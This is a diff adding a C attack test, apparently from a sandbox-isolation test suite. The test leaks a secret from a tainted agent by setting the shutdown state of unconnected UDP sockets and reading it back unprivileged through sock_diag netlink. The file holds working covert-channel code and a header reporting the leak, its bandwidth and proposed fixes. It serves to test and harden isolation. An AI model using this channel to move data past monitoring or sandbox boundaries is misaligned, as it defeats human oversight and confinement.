@@ -1,0 +1,145 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/* udp_shutdown_diag - per-socket state sock_diag shows every user, set with no setsockopt:
+ * shutdown(2) on an UNCONNECTED UDP socket returns ENOTCONN but still ORs the direction into
+ * sk_shutdown (inet_shutdown's "hack to wake up other listeners"), and NETLINK_SOCK_DIAG reports
+ * it in INET_DIAG_SHUTDOWN (always included, no privilege: what `ss` reads). A SERVER agent binds
+ * SD_SOCKS UDP sockets before its recv to 127.77.(i>>8).(i&255):0 (the address is the index; a
+ * tainted bind is refused); after the recv it calls shutdown(SHUT_RD/SHUT_WR/SHUT_RDWR) or
+ * nothing on each: 2 canary bits per socket.
+ * Verifier: uid 65534 dumps the UDP sockets over NETLINK_SOCK_DIAG while the agent waits (sync
+ * "set") and reassembles the bits by source address.
+ * Result (host, user and root): LEAKED user and root (cgroup backend, 6.18; no hook
+ * judges shutdown(2), and the setsockopt gate is not involved).
+ * Control (MNC_ATTACKS_CONTROL=1): LEAKED, verified.
+ * Bandwidth: 2 bits per socket per shutdown call (a socket is written once: the bits only OR in);
+ * the fd limit bounds it (~1000 sockets: ~250 bytes per agent run, ~10^5 calls/s). Sockets made
+ * before the recv are the carrier: a non-server agent gets hashed UDP sockets after the taint by
+ * autobind (udp_sockmem_diag), so only the index needs another carrier (port order, inode).
+ * Class fix: sk_shutdown is state a tainted agent sets on its own sockets that diag reports;
+ * refuse shutdown(2) on unconnected sockets for tainted agents (seccomp cannot tell; an LSM
+ * socket_shutdown hook or cgroup hook would), or stop counting INET_DIAG_SHUTDOWN/idiag_state
+ * as unreported in mnc_sockopt_verdict's rationale (docs/threat-model.md). */
+#include <grp.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <sys/wait.h>
+#include <linux/inet_diag.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <linux/sock_diag.h>
+
+#include "atk.h"
+
+#define SD_SOCKS 128 /* 2 bits each: 32 bytes */
+
+static int agent(struct atk_ctx *c)
+{
+    static int fds[SD_SOCKS];
+    for (int i = 0; i < SD_SOCKS; i++) {
+        fds[i] = (int)atk_try(c, "socket udp", socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f4d0000u | (uint32_t)i)};
+        if (fds[i] >= 0 &&
+            atk_try(c, "bind 127.77.x.y:0 (before the recv)", bind(fds[i], (struct sockaddr *)&a, sizeof(a))) < 0) {
+            close(fds[i]);
+            fds[i] = -1;
+        }
+    }
+    atk_recv(c);
+    size_t n = strlen(c->secret);
+    for (int i = 0; i < SD_SOCKS && (size_t)(i / 4) < n; i++) {
+        int v = ((unsigned char)c->secret[i / 4] >> (2 * (i % 4))) & 3;
+        if (v && fds[i] >= 0) {
+            /* ENOTCONN is the expected answer: the state is set all the same */
+            int r = shutdown(fds[i], v - 1);
+            if (r < 0 && errno != ENOTCONN)
+                atk_try(c, "shutdown", r);
+        }
+    }
+    atk_try(c, "shutdown on unconnected UDP sockets (ENOTCONN expected)", 0);
+    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
+    return 0;
+}
+
+/* uid 65534: the sk_shutdown of every AF_INET UDP socket bound to 127.77.0.0/16, by index */
+static int dump_udp(unsigned char *out, int cap)
+{
+    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
+    if (s < 0)
+        return -1;
+    struct {
+        struct nlmsghdr h;
+        struct inet_diag_req_v2 r;
+    } req = {
+        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
+        .r = {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_UDP, .idiag_states = ~0u}};
+    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
+        close(s);
+        return -1;
+    }
+    static char buf[1 << 16];
+    int got = 0;
+    for (;;) {
+        ssize_t r = recv(s, buf, sizeof(buf), 0);
+        if (r <= 0)
+            break;
+        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
+            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+                close(s);
+                return got;
+            }
+            struct inet_diag_msg *m = NLMSG_DATA(h);
+            uint32_t src = ntohl(m->id.idiag_src[0]);
+            if ((src >> 16) != 0x7f4d || (int)(src & 0xffff) >= cap)
+                continue;
+            int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
+            for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen))
+                if (at->rta_type == INET_DIAG_SHUTDOWN && RTA_PAYLOAD(at) >= 1) {
+                    out[src & 0xffff] = *(unsigned char *)RTA_DATA(at) & 3;
+                    got++;
+                }
+        }
+    }
+    close(s);
+    return got;
+}
+
+static void on_sync(struct atk_ctx *c, const char *tag)
+{
+    if (strcmp(tag, "set") != 0)
+        return;
+    int p[2];
+    if (pipe(p) != 0)
+        return;
+    pid_t pid = fork();
+    if (pid == 0) {
+        close(p[0]);
+        if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0)
+            _exit(1);
+        static unsigned char sd[SD_SOCKS];
+        int n = dump_udp(sd, SD_SOCKS);
+        char msg[SD_SOCKS / 4 + 1] = {0};
+        for (int i = 0; n > 0 && i < SD_SOCKS; i++)
+            msg[i / 4] = (char)((unsigned char)msg[i / 4] | (sd[i] << (2 * (i % 4))));
+        ssize_t w = write(p[1], msg, sizeof(msg));
+        _exit(w < 0);
+    }
+    close(p[1]);
+    char got[SD_SOCKS / 4 + 2] = {0};
+    ssize_t r = pid > 0 ? read(p[0], got, sizeof(got) - 1) : -1;
+    close(p[0]);
+    if (pid > 0)
+        waitpid(pid, NULL, 0);
+    if (r > 0 && strstr(got, c->canary))
+        atk_evidence(c, "uid 65534 read the canary from the shutdown state of the agent's unconnected UDP "
+                        "sockets (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, source address as the index)");
+}
+
+static const struct atk A = {"udp_shutdown_diag",
+                             "shutdown(2) state of unconnected UDP sockets, read through sock_diag",
+                             ATK_SERVER | ATK_NO_RECV,
+                             NULL,
+                             agent,
+                             on_sync,
+                             NULL,
+                             NULL};
+ATK_MAIN(A)
